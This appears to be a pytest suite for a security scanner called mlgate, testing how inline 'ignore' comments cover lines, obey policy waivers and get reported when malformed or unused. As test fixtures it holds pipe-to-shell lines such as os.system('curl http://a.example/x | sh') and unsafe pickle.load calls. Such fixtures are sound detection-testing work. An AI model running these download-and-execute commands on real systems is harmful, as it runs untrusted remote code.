"""A no in the code: what it covers, what it does not, and what is told of one that does nothing."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from gitrepo import make_repository
from hypothesis import given, settings
from hypothesis import strategies as st
from program import Done, check

from mlgate.examples import examine_example
from mlgate.facts import ignores
from mlgate.model import Kind, Unit
from mlgate.policy import load_bundle
from mlgate.verbs.policy_test import Example

PICKLE = "unsafe-load/pickle"
NO = "mlgate: ignore[unsafe-load/pickle] false-positive: written two lines above"
POLICY = """\
kind: Policy
version: 1
id: acme
owner: me
extends: none
rules:
  "*": { level: "off" }
  unsafe-load/*: { level: block, waivable: inline }
  download/*: { level: block, waivable: inline }
  unpinned/package: { level: warn, waivable: inline }
  secret/*: { level: block, waivable: file }
  governance/*: { level: warn }
"""


def covered(kind: Kind, text: str) -> list[tuple[int, int]]:
    """First and last line of what each comment covers."""
    facts = ignores.extract(kind, [Unit(0, text)])
    return [(fact.span.line, fact.span.end_line) for fact in facts if fact.kind == "ignore"]


PYTHON = {
    "beside": (f"x = 1\nload(a)  # {NO}\ny = 2\n", [(2, 2)]),
    "above": (f"# {NO}\nload(a)\nload(b)\n", [(1, 2)]),
    "above, with another comment between": (f"# {NO}\n# and why\nload(a)\n", [(1, 3)]),
    "above, with a gap": (f"# {NO}\n\nload(a)\n", [(1, 1)]),
    "on the last line of a call": (f"load(\n  a,\n)  # {NO}\n", [(1, 3)]),
    "inside a call": (f"load(\n  a,  # {NO}\n)\n", [(1, 3)]),
    "of a header alone": (f"with open(load(a)) as f:  # {NO}\n    load(f)\n", [(1, 1)]),
    "above a header": (f"# {NO}\nfor x in load(a):\n    load(x)\n", [(1, 2)]),
    "in a block": (f"if x:\n    # {NO}\n    load(a)\nload(b)\n", [(2, 3)]),
    "over a continuation": (f"x = \\\n  load(a)  # {NO}\n", [(1, 2)]),
    "a text": (f'x = "# {NO}"\nload(a)\n', []),
    "a docstring": (f'"""\n# {NO}\n"""\nload(a)\n', []),
    "behind a fault": (f"load(a)  # {NO}\nx = (\nload(b)  # {NO}\n", [(1, 1), (3, 3)]),
    "at the end": (f"load(a)\n# {NO}\n", [(2, 2)]),
    "of windows": (f"load(a)  # {NO}\r\nload(b)\r\n", [(1, 1)]),
    "a decorator": (f"@load  # {NO}\ndef f():\n    load(a)\n", [(1, 1)]),
}


@pytest.mark.parametrize("name", PYTHON)
def test_a_comment_covers_its_logical_statement(name: str) -> None:
    text, lines = PYTHON[name]
    assert covered(Kind.PYTHON, text) == lines


OTHERS = {
    "shell": (Kind.SHELL, f"curl a | sh  # {NO}\ncurl b | sh\n", [(1, 1)]),
    "a continued line": (Kind.SHELL, f"# {NO}\ncurl a \\\n  | sh\ncurl b\n", [(1, 3)]),
    "a text in shell": (Kind.SHELL, f'echo "# {NO}"\n', []),
    "no blank before it": (Kind.SHELL, f"curl http://a#{NO}\n", []),
    "an instruction": (Kind.DOCKERFILE, f"# {NO}\nRUN a \\\n  b\nRUN c\n", [(1, 3)]),
    "behind an instruction": (Kind.DOCKERFILE, f"RUN a  # {NO}\n", []),
    "requirements": (Kind.REQUIREMENTS, f"torch  # {NO}\nnumpy\n", [(1, 1)]),
    "yaml": (Kind.CONFIG, f"# {NO}\nmodel: a/b\nother: c/d\n", [(1, 2)]),
    "yaml's block scalars are texts": (
        Kind.CONFIG,
        f"a: |\n  x  # {NO}\nb: >-\n  # {NO}\n- &c |\n  # {NO}\nd: 1  # {NO}\n",
        [(7, 7)],
    ),
    "sql": (Kind.SQL, f"select 1 -- {NO}\n", [(1, 1)]),
    "markdown": (Kind.MARKDOWN, f"a\n<!-- {NO} -->\ntoken\nb\n", [(2, 3)]),
}


@pytest.mark.parametrize("name", OTHERS)
def test_other_languages_have_comments_of_their_own(name: str) -> None:
    kind, text, lines = OTHERS[name]
    assert covered(kind, text) == lines


MALFORMED = {
    "mlgate: ignore": "a rule in brackets, a type and a reason are needed",
    "mlgate: ignore[unsafe-load/pickle]": "a rule in brackets, a type and a reason are needed",
    "mlgate: ignore[unsafe-load/pickle] false-positive:": "a rule in brackets, a type and a reason are needed",
    "mlgate: ignore[unsafe-load/pickle] because I say so": "a rule in brackets, a type and a reason are needed",
    "mlgate: ignore[unsafe-load/*] mitigated: all of it": "it names a family; each rule has its own comment",
    "mlgate: ignore[*] mitigated: all of it": "it names a family; each rule has its own comment",
    "mlgate: ignore[] mitigated: all of it": "it names no rule",
    "mlgate: ignore[pickle] mitigated: short": "it names no rule",
    "mlgate: ignore[unsafe-load/pickle] emergency: now": (
        "its type is none of false-positive, mitigated, accepted-risk"
    ),
}


@pytest.mark.parametrize("comment", MALFORMED)
def test_a_comment_that_does_nothing_says_why(comment: str) -> None:
    facts = list(ignores.extract(Kind.PYTHON, [Unit(0, f"load(a)  # {comment}\n")]))
    assert [(fact.name, fact.attributes["problem"].options) for fact in facts] == [
        ("suppression-malformed", (MALFORMED[comment],))
    ]


def judged(done: Done) -> dict[tuple[str, int], str]:
    """Level by rule and line in the cell or file."""
    return {
        (one["rule"], (one["location"]["cell"] or one["location"])["line"]): one["level"]
        for one in done.report["findings"]
    }


def test_it_is_honoured_where_the_policy_says_inline(tmp_path: Path) -> None:
    text = f"import pickle\na = pickle.load(f)  # {NO}\nb = pickle.load(g)\n"
    repository = make_repository(tmp_path / "r", {".mlgate.yaml": POLICY, "a.py": text})
    done = check(repository.root, "a.py")
    assert judged(done) == {
        (PICKLE, 2): "record",
        (PICKLE, 3): "block",
        ("governance/suppression-added", 2): "warn",
    }
    (ignored,) = [one for one in done.report["findings"] if one["suppression"]]
    assert ignored["suppression"] == {
        "kind": "inline",
        "state": "accepted",
        "type": "false-positive",
        "reason": "written two lines above",
        "id": None,
        "until": None,
    }


def test_it_is_not_honoured_where_the_policy_wants_a_file(tmp_path: Path) -> None:
    text = f"import pickle\na = pickle.load(f)  # {NO}\n"
    repository = make_repository(
        tmp_path / "r",
        {".mlgate.yaml": POLICY.replace("block, waivable: inline", "block, waivable: file"), "a.py": text},
    )
    done = check(repository.root, "a.py")
    assert (done.code, judged(done)[PICKLE, 2]) == (1, "block")
    (finding,) = [one for one in done.report["findings"] if one["rule"] == PICKLE]
    assert finding["trace"][-1] == (
        "the comment in line 2 does not count: acme: rules/unsafe-load/*: waivable file (.mlgate.yaml:8)"
    )


def test_it_hides_nothing_else_on_its_line(tmp_path: Path) -> None:
    text = f"import pickle, os\na = pickle.load(f); os.system('curl http://a.example/x | sh')  # {NO}\n"
    repository = make_repository(tmp_path / "r", {".mlgate.yaml": POLICY, "a.py": text})
    levels = judged(check(repository.root, "a.py"))
    assert levels[PICKLE, 2] == "record"
    assert levels["download/pipe-to-shell", 2] == "block"


def test_cells_and_their_magics_have_comments_too(tmp_path: Path) -> None:
    cells = [
        f"import pickle\n# {NO}\na = pickle.load(f)\nb = pickle.load(g)",
        f"!pip install torch  # {NO.replace(PICKLE, 'unpinned/package')}\n!pip install numpy",
        f"%%bash\n# {NO.replace(PICKLE, 'download/pipe-to-shell')}\ncurl http://a.example/x | sh\n",
    ]
    book = {
        "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": one}
            for one in cells
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 4,
    }
    repository = make_repository(tmp_path / "r", {".mlgate.yaml": POLICY, "a.ipynb": json.dumps(book)})
    found = {
        (one["rule"], one["location"]["cell"]["index"], one["location"]["cell"]["line"]): one["level"]
        for one in check(repository.root, "a.ipynb").report["findings"]
        if not one["rule"].startswith("governance/")
    }
    assert found == {
        (PICKLE, 1, 3): "record",
        (PICKLE, 1, 4): "block",
        ("unpinned/package", 2, 1): "record",
        ("unpinned/package", 2, 2): "warn",
        ("download/pipe-to-shell", 3, 3): "record",
    }


def test_a_former_name_of_a_rule_keeps_working(tmp_path: Path) -> None:
    rule = """\
---
kind: Rule
version: 1
id: acme/load
formerly: [acme/old-load]
title: Loads
severity: high
message: Loads.
why: Because.
fix: Do not.
match: {any: [{call: [acme.load]}]}
examples: {bad: ["import acme; acme.load()"], good: ["import acme"]}
"""
    policy = POLICY + "  acme/load: { level: block, waivable: inline }\n" + rule
    text = f"import acme\nacme.load()  # {NO.replace(PICKLE, 'acme/old-load')}\n"
    repository = make_repository(tmp_path / "r", {".mlgate.yaml": policy, "a.py": text})
    assert judged(check(repository.root, "a.py"))["acme/load", 2] == "record"


def test_what_silences_nothing_is_told(tmp_path: Path) -> None:
    text = f"x = 1  # {NO}\ny = 2  # {NO.replace('pickle', 'pickel')}\nz = 3  # mlgate: ignore\n"
    repository = make_repository(tmp_path / "r", {".mlgate.yaml": POLICY, "a.py": text})
    told = {
        (one["rule"], one["location"]["line"]): one["message"]
        for one in check(repository.root, "a.py").report["findings"]
        if one["rule"].startswith("governance/ignore")
    }
    assert told == {
        ("governance/ignore-unused", 1): "This comment silences nothing: unsafe-load/pickle finds nothing there.",
        ("governance/ignore-unused", 2): "This comment silences nothing: there is no rule unsafe-load/pickel.",
        ("governance/ignore-malformed", 3): (
            "This comment silences nothing: a rule in brackets, a type and a reason are needed."
        ),
    }
    only = check(repository.root, "a.py", "--only", "download/*")
    assert [one["rule"] for one in only.report["findings"]] == []


BUNDLE = load_bundle(root=Path("/nonexistent"))
CODE = [
    "import pickle",
    "a = pickle.load(f)",
    "b = pickle.load(",
    "    g,",
    ")",
    "if a:",
    "    c = pickle.loads(h)",
]


@settings(max_examples=40)
@given(st.sets(st.integers(0, len(CODE) - 1)), st.booleans())
def test_a_comment_changes_no_fingerprint(lines: set[int], above: bool) -> None:
    """Else a developer could make an old finding new, or a new one old, by writing beside it."""

    def prints(code: list[str]) -> list[tuple[str, str]]:
        found = examine_example(Example({"a.py": "\n".join(code) + "\n"}), BUNDLE)
        return sorted((one.rule, one.fingerprint) for one in found if one.rule == PICKLE)

    said = []
    for index, line in enumerate(CODE):
        if index in lines and above:
            said.append(f"{line[: len(line) - len(line.lstrip())]}# {NO}")
        said.append(f"{line}  # {NO}" if index in lines and not above else line)
    assert prints(said) == prints(CODE)
    assert len(prints(CODE)) == 3


def test_a_formatter_that_moves_a_comment_does_not_break_it(tmp_path: Path) -> None:
    long = f"result = pickle.load(open(some_rather_long_folder_name / 'and_a_long_file_name.pickle', 'rb'))  # {NO}\n"
    file = tmp_path / "a.py"
    file.write_text(f"import pickle\n{long}")
    subprocess.run([sys.executable, "-m", "ruff", "format", "--isolated", str(file)], check=True, capture_output=True)
    text = file.read_text()
    assert text.count("\n") > 2
    found = examine_example(Example({"a.py": text}), BUNDLE)
    assert [len(one.ignores) for one in found if one.rule == PICKLE] == [1]


def test_ten_thousand_comments_take_linear_time() -> None:
    """Twice as many take about twice as long; a quadratic reader would need minutes here."""
    text = f"load(a)  # {NO}\n" * 10_000
    assert len(covered(Kind.PYTHON, text)) == 10_000
